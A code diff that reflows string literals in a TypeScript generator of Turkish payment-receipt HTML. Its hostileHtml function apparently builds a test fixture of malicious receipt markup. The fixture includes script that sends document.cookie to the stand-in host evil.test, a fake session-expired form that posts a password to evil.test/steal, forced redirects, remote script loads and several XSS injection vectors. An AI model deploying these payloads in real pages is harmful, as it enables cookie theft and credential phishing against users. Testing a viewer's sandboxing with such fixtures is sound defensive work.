@@ -65,9 +65,14 @@ function html(row: Row): string {
     .map(([name, value]) => `<tr><th>${escapeHtml(name)}</th><td>${escapeHtml(value)}</td></tr>`)
     .join('');
   return (
-    `<!DOCTYPE html><html lang="tr"><head><meta charset="utf-8"><title>${title}</title><style>body{font-family:Arial,sans-serif;margin:32px;color:#222}` +
-    `h1{font-size:18px}table{border-collapse:collapse}th{text-align:left;color:#666;font-weight:normal}th,td{padding:6px 16px 6px 0;border-bottom:1px solid #ddd}</style></head>` +
-    `<body><h1>${title}</h1><p>${escapeHtml(MERCHANT.name)}</p><table>${cells}</table><p>Bu belge deneme ortamında üretilmiştir; mali değeri yoktur.</p></body></html>`
+    '<!DOCTYPE html><html lang="tr"><head><meta ' +
+    `charset="utf-8"><title>${title}</title><style>body{font-family:Arial,sans-serif;` +
+    'margin:32px;color:#222}' +
+    'h1{font-size:18px}table{border-collapse:collapse}th{text-align:left;color:#666;' +
+    'font-weight:normal}th,td{padding:6px 16px 6px 0;border-bottom:1px solid ' +
+    '#ddd}</style></head>' +
+    `<body><h1>${title}</h1><p>${escapeHtml(MERCHANT.name)}</p><table>${cells}</table><p>Bu ` +
+    'belge deneme ortamında üretilmiştir; mali değeri yoktur.</p></body></html>'
   );
 }
 
@@ -75,13 +80,21 @@ function html(row: Row): string {
 function hostileHtml(row: Row): string {
   const amount = turkishAmount(minor(row.amount));
   return (
-    `<!DOCTYPE html><html><head><meta http-equiv="refresh" content="0;url=https://evil.test/refresh"><base href="https://evil.test/">` +
-    `<link rel="stylesheet" href="https://evil.test/style.css"><script>window.top.location='https://evil.test/top';fetch('https://evil.test/?c='+document.cookie)</script>` +
-    `<style>@import url(https://evil.test/import.css);body{background:url(https://evil.test/background.png)}</style></head>` +
-    `<body onload="parent.document.title='owned'"><h1>Dekont</h1><p>İşlem No ${text(row.id)} - Tutar ${amount} ${text(row.currency)}</p>` +
-    `<p>${text(row.description)}</p><img src="https://evil.test/pixel.png" onerror="alert(1)"><svg onload="alert(document.domain)"><script>alert(2)</script></svg>` +
-    `<form action="https://evil.test/steal" method="post"><input name="password" autofocus placeholder="Oturumunuz doldu, parolanızı girin"><button>Devam</button></form>` +
-    `<iframe src="javascript:alert(3)"></iframe><object data="https://evil.test/object"></object><a href="javascript:alert(4)">Dekontu indir</a>` +
+    '<!DOCTYPE html><html><head><meta http-equiv="refresh" ' +
+    'content="0;url=https://evil.test/refresh"><base href="https://evil.test/">' +
+    '<link rel="stylesheet" href="https://evil.test/style.css"><script>' +
+    "window.top.location='https://evil.test/top';fetch('https://evil.test/" +
+    "?c='+document.cookie)</script>" +
+    '<style>@import url(https://evil.test/import.css);body{background:url(https://evil.test/' +
+    'background.png)}</style></head>' +
+    `<body onload="parent.document.title='owned'"><h1>Dekont</h1><p>İşlem No ${text(row.id)} ` +
+    `- Tutar ${amount} ${text(row.currency)}</p>` +
+    `<p>${text(row.description)}</p><img src="https://evil.test/pixel.png" ` +
+    'onerror="alert(1)"><svg onload="alert(document.domain)"><script>alert(2)</script></svg>' +
+    '<form action="https://evil.test/steal" method="post"><input name="password" autofocus ' +
+    'placeholder="Oturumunuz doldu, parolanızı girin"><button>Devam</button></form>' +
+    '<iframe src="javascript:alert(3)"></iframe><object ' +
+    'data="https://evil.test/object"></object><a href="javascript:alert(4)">Dekontu indir</a>' +
     `<script src="https://evil.test/remote.js"></script><script>document.forms[0].submit()</script></body></html>`
   );
 }
